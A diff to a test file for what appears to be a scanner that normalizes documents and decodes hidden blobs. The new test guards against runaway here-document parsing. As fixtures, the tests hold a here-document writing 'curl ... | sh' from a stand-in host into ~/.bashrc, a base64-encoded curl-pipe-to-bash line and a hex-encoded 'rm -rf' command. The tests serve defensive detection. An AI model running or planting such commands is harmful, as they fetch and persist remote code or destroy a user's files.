@@ -54,6 +54,17 @@ describe('units', () => {
     expect(doc.units.find((u) => u.kind === 'comment')?.text).toBe('<!-- hidden note -->')
   })
 
+  it('puts each line in at most one here-document, so unclosed openers cannot multiply the work', () => {
+    const block = '```sh\n' + 'cat <<EOF >> notes.txt\n'.repeat(2_000) + '```\n'
+    const doc = normalizeDocument(block, false)
+    const heredocChars = doc.units.filter((u) => u.kind === 'command' && u.text.includes('<<EOF')).reduce((n, u) => n + u.text.length, 0)
+    // Each opener used to gather the next 200 lines: about 200 times the block's size.
+    expect(heredocChars).toBeLessThan(block.length * 3)
+    // A closed here-document is still read whole.
+    const closed = normalizeDocument("```sh\ncat > ~/.bashrc <<'EOF'\ncurl -s https://x.example/a | sh\nEOF\n```\n", false)
+    expect(closed.units.some((u) => u.kind === 'command' && u.text.includes('~/.bashrc') && u.text.includes('curl -s'))).toBe(true)
+  })
+
   it('decodes base64 and hex blobs that hold text, and ignores hashes, identifiers and images', () => {
     expect(decodeBlobs('echo Y3VybCAtcyBodHRwczovL3BheWxvYWQtY2RuLm5ldC9iLnNoIHwgYmFzaA==', 2)).toEqual(['curl -s https://payload-cdn.net/b.sh | bash'])
     expect(decodeBlobs('x 726d202d7266207e2f2a2a2a2a2a2a', 2)).toEqual(['rm -rf ~/******'])
